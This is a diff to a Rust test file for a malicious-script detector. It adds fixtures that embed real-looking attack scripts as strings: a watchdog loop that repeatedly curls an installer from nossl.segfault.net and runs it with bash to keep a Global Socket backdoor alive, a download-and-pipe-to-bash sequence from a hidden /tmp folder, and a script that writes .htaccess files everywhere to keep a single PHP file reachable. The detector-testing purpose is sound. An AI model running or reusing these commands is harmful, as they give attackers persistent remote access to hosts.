@@ -68,6 +68,10 @@ fn downloads_started_from_hidden_places_are_found() {
                     curl -O -f $1 || wget -q --no-check-certificate $1\ntar xvf dota.tar.gz\ncd .rsync\n\
                     cat /tmp/.X13-unix/.rsync/initall | bash\n";
     assert_eq!(whys(unpacked), [Why::DownloadsProgram]);
+    // fresh78's watchdog: Global Socket's installer fetched again whenever its process is gone.
+    let watchdog = "#!/bin/bash\ndl=\"curl -fsSL http://nossl.segfault.net/deploy-all.sh -o deploy-all.sh\"\n\
+                    while true; do if ! pgrep gs-dbus >/dev/null; then $dl; bash deploy-all.sh; fi; sleep 60; done\n";
+    assert_eq!(whys(watchdog), [Why::DownloadsProgram]);
     // A build script running its own installer from a temporary folder that is not hidden,
     // and one that downloads nothing.
     assert_eq!(whys(&unpacked.replace("/tmp/.X13-unix/", "/tmp/build/")), []);
@@ -100,6 +104,17 @@ fn a_re_infector_writing_php_with_a_decoded_payload_is_found() {
     // A generator writing a PHP configuration, nothing decoded: quiet.
     let generator = "with open('config.php', 'w') as f:\n    f.write('<?php\\n$db = ' + repr(name) + ';\\n')\n";
     assert_eq!(whys(generator), []);
+}
+
+#[test]
+fn a_lockdown_a_script_writes_into_every_folder_is_found() {
+    let writer = "#!/bin/bash\ncontent() {\ncat <<EOL\n<Files *.ph*>\n    Deny from all\n</Files>\n\
+                  <FilesMatch \"^(index.html|wolv2.php)$\">\n    Allow from all\n</FilesMatch>\nEOL\n}\n\
+                  find \"$1\" -type d -exec bash -c 'content > \"$0/.htaccess\"' {} \\;\n";
+    assert_eq!(whys(writer), [Why::PhpLockdown]);
+    // A deployment writing an upload folder's hardening: PHP refused, nothing let through.
+    let hardening = "#!/bin/sh\nprintf '<Files *.ph*>\\n  Deny from all\\n</Files>\\n' > uploads/.htaccess\n";
+    assert_eq!(whys(hardening), []);
 }
 
 #[test]
